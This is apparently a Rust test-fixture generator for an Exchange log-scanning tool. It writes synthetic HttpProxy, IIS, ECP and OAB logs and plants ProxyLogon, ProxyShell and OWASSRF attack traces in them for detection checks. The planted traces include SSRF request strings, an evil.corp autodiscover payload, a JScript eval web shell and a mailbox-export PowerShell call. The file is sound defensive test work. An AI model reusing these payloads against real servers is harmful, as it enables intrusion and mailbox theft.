//! Log fixtures: a busy Exchange 2019 server's HttpProxy, ECP, OAB generator and IIS
//! logs of any size, benign traffic with ProxyLogon, ProxyShell, OWASSRF and web-shell
//! traces mixed in at known lines. Used by the demo, the tests and the benchmark
//! (`exsweep fixture`). Deterministic for a given size.

use exsweep_logs::parse::HTTPPROXY_DEFAULT_FIELDS;
use std::fs;
use std::io::{self, BufWriter, Write};
use std::path::Path;

const EXCHANGE_LOGS: &str = "Program Files/Microsoft/Exchange Server/V15/Logging";
/// 2020-12-28T00:00:00Z to 2021-03-06T00:00:00Z: logs start before the campaign.
const SPAN_START: i64 = 1_609_113_600;
const SPAN_SECS: i64 = 68 * 86_400;

/// A trace planted in the logs, and the checks that must fire on it.
#[derive(Clone, Debug)]
pub struct Trace {
    /// Windows path of the log file.
    pub windows_path: String,
    pub line: u64,
    pub check_ids: &'static [&'static str],
}

/// A tiny deterministic generator (xorshift), so fixtures (and the tests' generated
/// logs) are the same every run.
pub struct Rng(pub u64);

impl Rng {
    pub fn next_u64(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    pub fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[(self.next_u64() % items.len() as u64) as usize]
    }
    /// True `percent` times in a hundred.
    pub fn chance(&mut self, percent: u64) -> bool {
        self.next_u64() % 100 < percent
    }
}

fn timestamp(fraction: f64) -> chrono::DateTime<chrono::Utc> {
    let secs = SPAN_START + (fraction.clamp(0.0, 1.0) * SPAN_SECS as f64) as i64;
    chrono::DateTime::from_timestamp(secs, 0).expect("in range")
}

const USERS: [&str; 6] = ["alice", "bob", "carol", "dave", "erin", "frank"];
const CLIENT_IPS: [&str; 6] = [
    "10.1.2.3",
    "10.1.2.17",
    "10.1.4.20",
    "192.168.10.5",
    "10.1.9.44",
    "172.16.3.8",
];
const AGENTS: [&str; 4] = [
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13801; Pro)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36",
    "Apple-iPhone12C1/1802.67",
    "ExchangeWebServices/15.02.0858.005",
];

/// One file being written, with its line count.
struct LogWriter {
    out: BufWriter<fs::File>,
    windows_path: String,
    lines: u64,
    bytes: u64,
}

impl LogWriter {
    fn create(root: &Path, rel: &str, header: &str) -> io::Result<LogWriter> {
        let path = root.join(rel);
        fs::create_dir_all(path.parent().expect("has a parent"))?;
        let mut w = LogWriter {
            out: BufWriter::with_capacity(1 << 20, fs::File::create(path)?),
            windows_path: format!("C:\\{}", rel.replace('/', "\\")),
            lines: 0,
            bytes: 0,
        };
        for line in header.lines() {
            w.line(line)?;
        }
        Ok(w)
    }

    fn line(&mut self, text: &str) -> io::Result<u64> {
        self.out.write_all(text.as_bytes())?;
        self.out.write_all(b"\r\n")?;
        self.lines += 1;
        self.bytes += text.len() as u64 + 2;
        Ok(self.lines)
    }
}

/// An HttpProxy row from named values; the rest of the 74 columns stay empty.
fn httpproxy_row(values: &[(&str, &str)]) -> String {
    HTTPPROXY_DEFAULT_FIELDS
        .split(',')
        .map(|col| {
            values
                .iter()
                .find(|(k, _)| *k == col)
                .map(|(_, v)| {
                    if v.contains([',', '"']) {
                        format!("\"{}\"", v.replace('"', "\"\""))
                    } else {
                        v.to_string()
                    }
                })
                .unwrap_or_default()
        })
        .collect::<Vec<_>>()
        .join(",")
}

/// One request as IIS logs it.
struct Request<'a> {
    method: &'a str,
    stem: &'a str,
    query: &'a str,
    user: &'a str,
    ip: &'a str,
    agent: &'a str,
    status: &'a str,
}

fn iis_row(time: &str, r: &Request) -> String {
    let query = if r.query.is_empty() { "-" } else { r.query };
    let user = if r.user.is_empty() { "-" } else { r.user };
    format!(
        "{time} 10.0.0.5 {} {} {query} 443 {user} {} {} - {} 0 0 15",
        r.method,
        r.stem,
        r.ip,
        r.agent.replace(' ', "+"),
        r.status
    )
}

const IIS_HEADER: &str = "#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n#Date: 2020-12-28 00:00:00\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken";

fn httpproxy_header() -> String {
    format!(
        "#Software: Microsoft Exchange Server\n#Version: 15.02.0858.005\n#Log-type: HttpProxy Logs\n#Date: 2020-12-28T00:00:00.000Z\n#Fields: {HTTPPROXY_DEFAULT_FIELDS}"
    )
}

/// Writes log fixtures of about `target_bytes` below `root` (a mounted-image layout)
/// and returns the planted traces.
pub fn write(root: &Path, target_bytes: u64) -> io::Result<Vec<Trace>> {
    let mut rng = Rng(0x5eed_cafe_f00d_1234);
    let mut traces = Vec::new();
    let mut proxy_mapi = LogWriter::create(
        root,
        &format!("{EXCHANGE_LOGS}/HttpProxy/Mapi/HttpProxy_2020122800-1.LOG"),
        &httpproxy_header(),
    )?;
    let mut proxy_ecp = LogWriter::create(
        root,
        &format!("{EXCHANGE_LOGS}/HttpProxy/Ecp/HttpProxy_2020122800-1.LOG"),
        &httpproxy_header(),
    )?;
    let mut iis = LogWriter::create(
        root,
        "inetpub/logs/LogFiles/W3SVC1/u_ex201228.log",
        IIS_HEADER,
    )?;
    let mut ecp_server = LogWriter::create(
        root,
        &format!("{EXCHANGE_LOGS}/ECP/Server/ECPServer20201228-1.LOG"),
        "#Software: Microsoft Exchange Server\n#Version: 15.02.0858.005\n#Log-type: ECP Server Log\n#Fields: TimeStamp,ServerName,EventId,EventData",
    )?;
    let mut oab = LogWriter::create(
        root,
        &format!("{EXCHANGE_LOGS}/OABGeneratorLog/OABGenerator20201228-1.LOG"),
        "",
    )?;
    let mut ecp_activity = LogWriter::create(
        root,
        &format!("{EXCHANGE_LOGS}/ECP/Activity/ECPActivity20201228-1.LOG"),
        "#Software: Microsoft Exchange Server\n#Version: 15.02.0858.005\n#Log-type: ECP Activity Log\n#Fields: TimeStamp,ServerName,EventId,EventData",
    )?;
    let mut rps = LogWriter::create(
        root,
        &format!("{EXCHANGE_LOGS}/CmdletInfra/Powershell-Proxy/Http/Rps_Http_2020122800-1.LOG"),
        "#Software: Microsoft Exchange Server\n#Version: 15.02.0858.005\n#Log-type: Rps Http Log\n#Fields: DateTime,StartTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,UrlHost,UrlStem,AuthenticationType,IsAuthenticated,AuthenticatedUser,Organization,ClientIpAddress,ServerHostName,FrontEndServer,HttpStatus,SubStatus,ErrorCode,Action,CommandId,CommandName,SessionId,ShellId,FailureCategory,ContentLength,ClientInfo",
    )?;

    // Traces go in at fixed fractions of the run, on or near 2021-03-03.
    let plan: [f64; 4] = [0.40, 0.55, 0.70, 0.85];
    let mut next_trace = 0;
    let mut written = 0u64;
    let mut n = 0u64;
    while written < target_bytes || next_trace < plan.len() {
        let fraction = if target_bytes == 0 {
            1.0
        } else {
            written as f64 / target_bytes as f64
        };
        if next_trace < plan.len() && fraction >= plan[next_trace] {
            let t = timestamp(0.96 + next_trace as f64 * 0.005);
            let sinks = AttackLogs {
                proxy_ecp: &mut proxy_ecp,
                iis: &mut iis,
                ecp_server: &mut ecp_server,
                oab: &mut oab,
                rps: &mut rps,
            };
            plant(next_trace, &t, sinks, &mut traces)?;
            next_trace += 1;
            continue;
        }
        n += 1;
        let t = timestamp(fraction);
        let iso = t.format("%Y-%m-%dT%H:%M:%S%.3fZ").to_string();
        let user = rng.pick(&USERS);
        let ip = rng.pick(&CLIENT_IPS);
        let agent = rng.pick(&AGENTS);
        let request_id = format!(
            "{:08x}-{:04x}-4{:03x}-a{:03x}-{:012x}",
            rng.next_u64() as u32,
            rng.next_u64() as u16,
            n % 4096,
            n % 4093,
            rng.next_u64() % (1 << 48)
        );
        let mailbox = format!("Smtp~{user}@corp.example");
        let (writer, stem, protocol) = match n % 10 {
            0 => (
                &mut proxy_ecp,
                rng.pick(&[
                    "/ecp/DDI/DDIService.svc/GetList",
                    "/ecp/PersonalSettings/HomePage.aspx",
                    "/ecp/",
                ]),
                "Ecp",
            ),
            _ => (
                &mut proxy_mapi,
                rng.pick(&["/mapi/emsmdb/", "/mapi/nspi/"]),
                "Mapi",
            ),
        };
        let status = if n.is_multiple_of(97) { "401" } else { "200" };
        let row = httpproxy_row(&[
            ("DateTime", &iso),
            ("RequestId", &request_id),
            ("MajorVersion", "15"),
            ("MinorVersion", "2"),
            ("BuildVersion", "858"),
            ("RevisionVersion", "5"),
            ("Protocol", protocol),
            ("UrlHost", "mail.corp.example"),
            ("UrlStem", stem),
            ("AuthenticationType", "Negotiate"),
            ("IsAuthenticated", "True"),
            ("AuthenticatedUser", &format!("CORP\\{user}")),
            ("AnchorMailbox", &mailbox),
            ("UserAgent", agent),
            ("ClientIpAddress", ip),
            ("ServerHostName", "EXCH01"),
            ("HttpStatus", status),
            ("BackEndStatus", status),
            ("Method", "POST"),
            ("ProxyAction", "Proxy"),
            ("TargetServer", "exch01.corp.example"),
            ("TargetServerVersion", "Version 15.2 (Build 858.5)"),
            ("RoutingType", "Database"),
            ("RequestBytes", "1864"),
            ("ResponseBytes", "3312"),
            ("TotalRequestTime", "31"),
            (
                "GenericInfo",
                "ActivityContextData=Dbl:WLM.TS[I]=0;I32:ATE.C[DC01]=1",
            ),
        ]);
        writer.line(&row)?;
        written += row.len() as u64 + 2;

        let date_time = t.format("%Y-%m-%d %H:%M:%S").to_string();
        let (method, stem, query, status, agent) = match n % 12 {
            0 => (
                "GET",
                "/owa/auth/logon.aspx",
                "url=https%3a%2f%2fmail.corp.example%2fowa%2f&reason=0",
                "200",
                AGENTS[1],
            ),
            1 => (
                "GET",
                "/owa/auth/15.2.858.5/themes/resources/logon.css",
                "",
                "200",
                AGENTS[1],
            ),
            2 => ("POST", "/owa/auth.owa", "", "302", AGENTS[1]),
            3 => (
                "GET",
                "/autodiscover/autodiscover.json",
                "Email=alice%40corp.example&Protocol=ActiveSync&RedirectCount=1",
                "200",
                AGENTS[2],
            ),
            4 => (
                "POST",
                "/ecp/DDI/DDIService.svc/GetList",
                "reqId=1614739800000&schema=MailboxService",
                "200",
                AGENTS[1],
            ),
            5 => (
                "GET",
                "/owa/auth/logon.aspx",
                "",
                "200",
                "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            ),
            6 => ("POST", "/EWS/Exchange.asmx", "", "200", AGENTS[3]),
            7 => (
                "POST",
                "/Microsoft-Server-ActiveSync/default.eas",
                "Cmd=Sync&User=alice&DeviceId=ABC&DeviceType=iPhone",
                "200",
                AGENTS[2],
            ),
            _ => (
                "POST",
                "/mapi/emsmdb/",
                "MailboxId=3f1c@corp.example",
                if n.is_multiple_of(53) { "401" } else { "200" },
                AGENTS[0],
            ),
        };
        let query = if query.is_empty() {
            format!("&CorrelationID=<empty>;&cafeReqId={request_id};")
        } else {
            format!("{query}&CorrelationID=<empty>;&cafeReqId={request_id};")
        };
        let line = iis_row(
            &date_time,
            &Request {
                method,
                stem,
                query: &query,
                user: &format!("CORP\\{user}"),
                ip,
                agent,
                status,
            },
        );
        iis.line(&line)?;
        written += line.len() as u64 + 2;
        if n % 2000 == 1 {
            let line = format!("{iso},EXCH01,ECP.Request,\"S:TIME=87;S:SID=x;S:USR=corp.example/Users/{user};S:CMD=Get-Mailbox.Identity=''{user}'';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/GetList;S:BLD=15.2.858.5\"");
            written += line.len() as u64 + 2;
            ecp_server.line(&line)?;
            let line = format!("{iso},EXCH01,ECP.Activity,\"S:ACTID={request_id};S:USR=corp.example/Users/{user};S:URL=/ecp/PersonalSettings/HomePage.aspx\"");
            written += line.len() as u64 + 2;
            ecp_activity.line(&line)?;
            let line = format!("{iso},{iso},{request_id},15,2,858,5,,exch01.corp.example,/powershell,Kerberos,true,CORP\\administrator,,10.1.2.3,EXCH01,EXCH01,200,0,,Receive,,Get-Mailbox,,,,0,Microsoft WinRM Client");
            written += line.len() as u64 + 2;
            rps.line(&line)?;
            let line = format!("{iso} Generating OAB 'Default Offline Address Book': Download completed for 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\Temp\\{n}.lzx'");
            written += line.len() as u64 + 2;
            oab.line(&line)?;
        }
    }
    for w in [
        proxy_mapi,
        proxy_ecp,
        iis,
        ecp_server,
        oab,
        ecp_activity,
        rps,
    ] {
        w.out.into_inner().map_err(|e| e.into_error())?.sync_all()?;
    }
    Ok(traces)
}

/// Writes the `step`-th group of attack traces and records where they are.
/// The logs the attack traces go into.
struct AttackLogs<'w> {
    proxy_ecp: &'w mut LogWriter,
    iis: &'w mut LogWriter,
    ecp_server: &'w mut LogWriter,
    oab: &'w mut LogWriter,
    rps: &'w mut LogWriter,
}

fn plant(
    step: usize,
    t: &chrono::DateTime<chrono::Utc>,
    logs: AttackLogs,
    traces: &mut Vec<Trace>,
) -> io::Result<()> {
    let AttackLogs {
        proxy_ecp,
        iis,
        ecp_server,
        oab,
        rps,
    } = logs;
    let iso = t.format("%Y-%m-%dT%H:%M:%S%.3fZ").to_string();
    let date_time = t.format("%Y-%m-%d %H:%M:%S").to_string();
    let mut record =
        |w: &mut LogWriter, text: &str, check_ids: &'static [&'static str]| -> io::Result<()> {
            let line = w.line(text)?;
            traces.push(Trace {
                windows_path: w.windows_path.clone(),
                line,
                check_ids,
            });
            Ok(())
        };
    let canary = "msExchEcpCanary=pTfl5tAt9kmAAAAAAAAAAA";
    match step {
        0 => {
            // Scanners first: Microsoft's own nmap probe form, then a refused ProxyShell try.
            let probe = httpproxy_row(&[
                ("DateTime", &iso),
                ("RequestId", "6f2a1d70-0000-4000-a000-000000000001"),
                ("Protocol", "Ecp"),
                ("UrlStem", "/ecp/default.flt"),
                (
                    "AnchorMailbox",
                    "ServerInfo~localhost~1942062522/ecp/default.flt",
                ),
                ("UserAgent", "Mozilla/5.0 zgrab/0.x"),
                ("ClientIpAddress", "198.51.100.23"),
                ("HttpStatus", "500"),
                ("Method", "GET"),
            ]);
            record(proxy_ecp, &probe, &["EXS-LOG-002", "EXS-LOG-006"])?;
            let line = iis_row(
                &date_time,
                &Request {
                    method: "GET",
                    stem: "/autodiscover/autodiscover.json",
                    query:
                        "@probe.test/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@probe.test",
                    user: "",
                    ip: "198.51.100.23",
                    agent: "Mozilla/5.0 zgrab/0.x",
                    status: "401",
                },
            );
            record(iis, &line, &["EXS-LOG-008"])?;
        }
        1 => {
            // ProxyLogon: SSRF, the ECP virtual directory reset, the file write.
            let ssrf = httpproxy_row(&[
                ("DateTime", &iso), ("RequestId", "6f2a1d70-0000-4000-a000-000000000002"), ("Protocol", "Ecp"),
                ("UrlStem", "/ecp/y.js"), ("AnchorMailbox", &format!("ServerInfo~a]@exch01.corp.example:444/ecp/DDI/DDIService.svc/GetList?schema=VirtualDirectory&{canary}#")),
                ("UserAgent", "ExchangeServicesClient/0.0.0.0"), ("ClientIpAddress", "5.2.69.14"), ("HttpStatus", "200"),
                ("Method", "POST"), ("RoutingHint", "X-BEResource-Cookie"),
            ]);
            record(
                proxy_ecp,
                &ssrf,
                &["EXS-LOG-001", "EXS-LOG-006", "EXS-LOG-010", "EXS-LOG-011"],
            )?;
            let reset = httpproxy_row(&[
                ("DateTime", &iso), ("RequestId", "6f2a1d70-0000-4000-a000-000000000003"), ("Protocol", "Ecp"),
                ("UrlStem", "/ecp/y.js"), ("AnchorMailbox", &format!("ServerInfo~a]@exch01.corp.example:444/ecp/DDI/DDIService.svc/SetObject?{canary}&schema=ResetOABVirtualDirectory#")),
                ("UserAgent", "ExchangeServicesClient/0.0.0.0"), ("ClientIpAddress", "5.2.69.14"), ("HttpStatus", "200"),
                ("Method", "POST"), ("RoutingHint", "X-BEResource-Cookie"),
            ]);
            record(
                proxy_ecp,
                &reset,
                &[
                    "EXS-LOG-001",
                    "EXS-LOG-005",
                    "EXS-LOG-006",
                    "EXS-LOG-010",
                    "EXS-LOG-011",
                ],
            )?;
            let script = [
                "<script language=\"\"JScript\"\" runat=\"\"server\"\">function Page_Load(){",
                "ev",
                "al(Request[\"\"p\"\"],\"\"un",
                "safe\"\");}</script>",
            ]
            .concat();
            let set = format!("{iso},EXCH01,ECP.Request,\"S:TIME=1034;S:SID=x;S:USR=corp.example/Users/SYSTEM;S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/{script}''.Identity=''b7d3cc2e-6a11-4a7a-b1c2-7bf1bb2ac7b2''.Name=''OAB (Default Web Site)'';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&{canary};S:EX=;S:BLD=15.2.858.5\"");
            record(ecp_server, &set, &["EXS-LOG-005"])?;
            let write = format!("{iso} Download failed and temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\discover.aspx' needs to be removed.");
            record(oab, &write, &["EXS-LOG-004"])?;
        }
        2 => {
            // The web shell in use, and the Volexity POST target.
            let line = iis_row(
                &date_time,
                &Request {
                    method: "POST",
                    stem: "/aspnet_client/discover.aspx",
                    query: "",
                    user: "",
                    ip: "5.2.69.14",
                    agent: "python-requests/2.25.1",
                    status: "200",
                },
            );
            record(iis, &line, &["EXS-LOG-007", "EXS-LOG-010", "EXS-LOG-011"])?;
            let line = iis_row(
                &date_time,
                &Request {
                    method: "POST",
                    stem: "/owa/auth/Current/themes/resources/logon.css",
                    query: "",
                    user: "",
                    ip: "104.140.114.110",
                    agent: "DuckDuckBot/1.0;+(+http://duckduckgo.com/duckduckbot.html)",
                    status: "200",
                },
            );
            record(iis, &line, &["EXS-LOG-007", "EXS-LOG-010", "EXS-LOG-011"])?;
        }
        _ => {
            // ProxyShell that worked, and OWASSRF.
            let line = iis_row(&date_time, &Request { method: "POST", stem: "/autodiscover/autodiscover.json", query: "@evil.corp/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBZhZG1pbmlzdHJhdG9yQGNvcnAuZXhhbXBsZQ==&Email=autodiscover/autodiscover.json%3F@evil.corp", user: "", ip: "203.0.113.50", agent: "python-requests/2.26.0", status: "200" });
            record(iis, &line, &["EXS-LOG-008", "EXS-LOG-011"])?;
            let line = iis_row(
                &date_time,
                &Request {
                    method: "POST",
                    stem: "/owa/mastermailbox@corp.example/powershell",
                    query: "clientApplication=ActiveMonitor;PSVersion=5.1.17763.1971",
                    user: "CORP\\svc-backup",
                    ip: "203.0.113.50",
                    agent: "Microsoft+WinRM+Client",
                    status: "200",
                },
            );
            record(iis, &line, &["EXS-LOG-009"])?;
            // The same OWASSRF session as the back end's remote PowerShell logged it.
            let line = format!("{iso},{iso},6f2a1d70-0000-4000-a000-000000000004,15,2,858,5,,exch01.corp.example,/powershell,Kerberos,true,CORP\\svc-backup,,203.0.113.50,EXCH01,EXCH01,200,0,,Receive,,New-MailboxExportRequest,,,,0,python-requests/2.26.0");
            record(rps, &line, &["EXS-LOG-009"])?;
        }
    }
    Ok(())
}
